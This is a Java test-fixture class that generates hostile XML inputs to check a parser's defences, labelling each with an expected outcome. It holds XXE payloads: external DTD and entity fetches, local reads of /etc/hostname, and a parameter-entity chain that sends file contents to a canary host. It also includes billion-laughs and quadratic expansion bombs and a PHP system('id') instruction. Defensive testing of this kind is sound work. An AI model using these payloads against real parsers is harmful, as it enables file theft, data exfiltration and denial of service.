package fr.passerelle.mappings.hostile;

import static fr.passerelle.mappings.hostile.Expected.BROKEN;
import static fr.passerelle.mappings.hostile.Expected.DTD;
import static fr.passerelle.mappings.hostile.Expected.HARMLESS;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;

/** Documents that declare, that expand, or that point elsewhere. */
final class Pointers {

    private static final String XSI = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" ";
    private static final String XI = "xmlns:xi=\"http://www.w3.org/2001/XInclude\" ";

    private final List<HostileCase> cases = new ArrayList<>();
    private final String http;
    private final String ftp;

    private Pointers(Canary canary) {
        this.http = canary.http();
        this.ftp = canary.ftp();
    }

    static List<HostileCase> cases(Canary canary) {
        Pointers pointers = new Pointers(canary);
        for (Door door : Door.ALL) {
            pointers.doctypes(door);
            pointers.entities(door);
            pointers.harmless(door);
        }
        return pointers.cases;
    }

    private void doctypes(Door door) {
        String root = door.root();
        doctype(door, "an empty DOCTYPE", "<!DOCTYPE " + root + ">");
        doctype(door, "an internal subset", "<!DOCTYPE " + root + " [<!ELEMENT " + root + " ANY>]>");
        doctype(door, "an external DTD by HTTP", "<!DOCTYPE " + root + " SYSTEM \"" + http + "a.dtd\">");
        doctype(door, "an external DTD by FTP", "<!DOCTYPE " + root + " SYSTEM \"" + ftp + "a.dtd\">");
        doctype(door, "a public DTD", "<!DOCTYPE " + root + " PUBLIC \"-//X//Y\" \"" + http + "b.dtd\">");
        doctype(door, "a DTD in a remote jar", "<!DOCTYPE " + root + " SYSTEM \"jar:" + http + "a.jar!/a.dtd\">");
        doctype(
                door,
                "a remote parameter entity",
                "<!DOCTYPE " + root + " [<!ENTITY % p SYSTEM \"" + http + "p.dtd\"> %p;]>");
        doctype(
                door,
                "a parameter entity that sends a file away",
                "<!DOCTYPE " + root + " [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; s "
                        + "SYSTEM '" + http + "?%f;'>\"> %e; %s;]>");
        doctype(door, "an attribute default", "<!DOCTYPE " + root + " [<!ATTLIST " + root + " VERSION CDATA \"9\">]>");
        doctype(
                door,
                "a notation and an unparsed entity",
                "<!DOCTYPE " + root + " [<!NOTATION n SYSTEM \"" + http + "n\"><!ENTITY u SYSTEM \"" + http
                        + "u\" NDATA n>]>");
        add("DTD", "a DOCTYPE after the root", door, BROKEN, () -> door.document() + "<!DOCTYPE a>");
        add("DTD", "a DOCTYPE in lower case", door, BROKEN, () -> door.before("<!doctype a>"));
        add("DTD", "a DOCTYPE inside the root", door, BROKEN, () -> door.inside("<!DOCTYPE a>"));
    }

    private void entities(Door door) {
        entity(door, "a local file as an entity", "<!ENTITY x SYSTEM \"file:///etc/hostname\">");
        entity(door, "a web page as an entity", "<!ENTITY x SYSTEM \"" + http + "x\">");
        entity(door, "an FTP file as an entity", "<!ENTITY x SYSTEM \"" + ftp + "x\">");
        entity(door, "an entity of itself", "<!ENTITY x \"&x;\">");
        entity(door, "a billion laughs", laughs());
        add(
                "entities",
                "a quadratic blow-up",
                door,
                DTD,
                () -> "<!DOCTYPE " + door.root() + " [<!ENTITY x \"" + "A".repeat(50_000) + "\">]>",
                "&x;".repeat(5_000));
        add("entities", "an entity that nobody declared", door, BROKEN, () -> door.named("&inconnue;"));
        add("entities", "an entity in an attribute", door, BROKEN, () -> door.onRoot("b=\"&inconnue;\""));
        add("entities", "an entity of HTML", door, BROKEN, () -> door.named("Elo&iuml;"));
        add("entities", "an ampersand alone", door, BROKEN, () -> door.named("Elo & i"));
    }

    private static String laughs() {
        StringBuilder text = new StringBuilder("<!ENTITY x0 \"ha\">");
        for (int i = 1; i <= 9; i++) {
            text.append("<!ENTITY x")
                    .append(i)
                    .append(" \"")
                    .append(("&x" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return text.append("<!ENTITY x \"&x9;\">").toString();
    }

    private void harmless(Door door) {
        quiet(door, "XInclude of a file", door.inside("<xi:include " + XI + "href=\"file:///etc/hostname\"/>"));
        quiet(door, "XInclude by HTTP", door.inside("<xi:include " + XI + "href=\"" + http + "x.xml\"/>"));
        quiet(
                door,
                "XInclude with a fallback",
                door.inside("<xi:include " + XI + "href=\"" + http + "y\"><xi:fallback>z</xi:fallback></xi:include>"));
        quiet(door, "a schemaLocation", door.onRoot(XSI + "xsi:schemaLocation=\"urn:x " + http + "x.xsd\""));
        quiet(door, "a schema without namespace", door.onRoot(XSI + "xsi:noNamespaceSchemaLocation=\"" + http + "n\""));
        quiet(door, "a stylesheet", door.before("<?xml-stylesheet type=\"text/xsl\" href=\"" + http + "x.xsl\"?>"));
        quiet(door, "a model", door.before("<?xml-model href=\"" + http + "x.rng\"?>"));
        quiet(door, "a base", door.onRoot("xml:base=\"" + http + "\""));
        quiet(door, "a link", door.onRoot("xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\"" + http + "l\""));
        quiet(door, "an instruction inside", door.inside("<?php system('id'); ?>"));
        quiet(door, "an entity in a comment", door.inside("<!-- &x; <!DOCTYPE a SYSTEM '" + http + "'> -->"));
        quiet(door, "an entity in CDATA", door.named("<![CDATA[&x;]]>"));
        quiet(door, "a namespace of the canary", door.onRoot("xmlns:c=\"" + http + "\""));
        quiet(door, "an unknown element with a link", door.inside("<SUITE HREF=\"" + http + "\">" + http + "</SUITE>"));
    }

    private void doctype(Door door, String name, String doctype) {
        add("DTD", name, door, DTD, () -> door.before(doctype));
    }

    private void entity(Door door, String name, String declarations) {
        add("entities", name, door, DTD, () -> "<!DOCTYPE " + door.root() + " [" + declarations + "]>", "&x;");
    }

    private void add(String family, String name, Door door, Expected expected, Supplier<String> doctype, String text) {
        add(family, name, door, expected, () -> {
            String named = door.named(text);
            int root = named.indexOf("<" + door.root());
            return named.substring(0, root) + doctype.get() + named.substring(root);
        });
    }

    private void quiet(Door door, String name, String document) {
        add("pointers", name, door, HARMLESS, () -> document);
    }

    private void add(String family, String name, Door door, Expected expected, Supplier<String> document) {
        cases.add(HostileCase.text(family, name, door, expected, document));
    }
}
